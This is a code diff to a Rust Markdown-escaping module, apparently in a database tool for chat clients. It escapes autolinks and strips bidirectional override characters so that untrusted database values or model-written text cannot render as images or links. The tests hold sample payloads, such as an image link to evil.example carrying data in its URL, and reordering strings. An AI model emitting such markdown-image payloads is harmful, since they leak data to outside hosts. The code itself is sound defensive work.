@@ -183,25 +183,37 @@ fn cell(value: &Value) -> String {
 }
 
 /// `text` as Markdown that shows it as it is, on one line: every character that could start
-/// markup (a link, an image, HTML, emphasis, a table cell) escaped, line breaks made spaces,
-/// other control characters left out. What the database holds, what its columns are named and
-/// what the model wrote are another's text: rendered as written, an image in it would be
-/// fetched by the chat client as the answer is shown, with data in its URL.
+/// markup (a link, an image, HTML, emphasis, a table cell) escaped, and what GitHub-flavoured
+/// Markdown would make a link by itself (`https://…`, `www.…`, `name@host`) broken by an
+/// escape; line breaks made spaces, other control characters and bidirectional overrides left
+/// out. What the database holds, what its columns are named and what the model wrote are
+/// another's text: rendered as written, an image in it would be fetched by the chat client as
+/// the answer is shown, with data in its URL, and a link would look like the answer's own.
 fn plain(text: &str) -> String {
     let mut out = String::with_capacity(text.len());
-    for c in text.chars() {
+    let mut rest = text.chars();
+    while let Some(c) = rest.next() {
         match c {
             '\\' | '`' | '*' | '_' | '[' | ']' | '(' | ')' | '{' | '}' | '<' | '>' | '!' | '|'
-            | '~' | '&' | '#' => {
+            | '~' | '&' | '#' | '@' => {
                 out.push('\\');
                 out.push(c);
             }
+            ':' if rest.as_str().starts_with("//") => out.push_str("\\:"),
+            '.' if out.to_ascii_lowercase().ends_with("www") => out.push_str("\\."),
             '\n' | '\r' => out.push(' '),
-            c if c.is_control() => {}
+            c if c.is_control() || reorders(c) => {}
             c => out.push(c),
         }
     }
     out
+}
+
+/// Whether `c` is one of Unicode's bidirectional formatting characters, which make text show
+/// in another order than it is read (a value that shows as another, code that reads as other
+/// code).
+fn reorders(c: char) -> bool {
+    matches!(c, '\u{61C}' | '\u{200E}' | '\u{200F}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}')
 }
 
 /// The longest run of backticks in `text`.
@@ -212,13 +224,19 @@ fn backticks(text: &str) -> usize {
 /// `code` in a fenced block that nothing in it can end: the fence is longer than any run of
 /// backticks inside.
 fn fenced(code: &str, language: &str) -> String {
+    let code: String = code.chars().filter(|&c| !reorders(c)).collect();
+    let code = code.as_str();
     let fence = "`".repeat((backticks(code) + 1).max(3));
     format!("{fence}{language}\n{code}\n{fence}")
 }
 
 /// `code` as inline code that nothing in it can end, on one line.
 fn code_span(code: &str) -> String {
-    let code = code.replace(['\n', '\r'], " ");
+    let code: String = code
+        .chars()
+        .filter(|&c| !reorders(c))
+        .map(|c| if c == '\n' || c == '\r' { ' ' } else { c })
+        .collect();
     let ticks = "`".repeat(backticks(&code) + 1);
     let pad = if code.contains('`') { " " } else { "" };
     format!("{ticks}{pad}{code}{pad}{ticks}")
@@ -739,12 +757,20 @@ mod tests {
         );
         assert!(md.contains("| x | \\<img src=x\\> |"), "{md}");
         assert!(
-            md.contains("| \\`\\`\\` | \\!\\[a\\]\\(https://evil.example/?d=1\\) \\<b\\> |"),
+            md.contains("| \\`\\`\\` | \\!\\[a\\]\\(https\\://evil.example/?d=1\\) \\<b\\> |"),
             "{md}"
         );
         assert_eq!(code_span("a `b` c"), "`` a `b` c ``");
         assert_eq!(code_span("SELECT 1"), "`SELECT 1`");
         assert_eq!(plain("a\u{7}b\r\nc"), "ab  c");
+        // Nothing GitHub-flavoured Markdown would link by itself, nothing shown reordered.
+        assert_eq!(
+            plain("see https://evil.example/?d=1, WWW.evil.example or me@evil.example at 12:30"),
+            "see https\\://evil.example/?d=1, WWW\\.evil.example or me\\@evil.example at 12:30"
+        );
+        assert_eq!(plain("total\u{202E}01\u{2066}x\u{2069}"), "total01x");
+        assert_eq!(code_span("SELECT\u{202E} 1\n"), "`SELECT 1 `");
+        assert!(!fenced("SELECT 1 -- \u{2067}x", "sql").contains('\u{2067}'));
         // An error quoting what the model wrote is no markup either.
         let failed = DbError::Sql {
             sqlstate: "42703".into(),
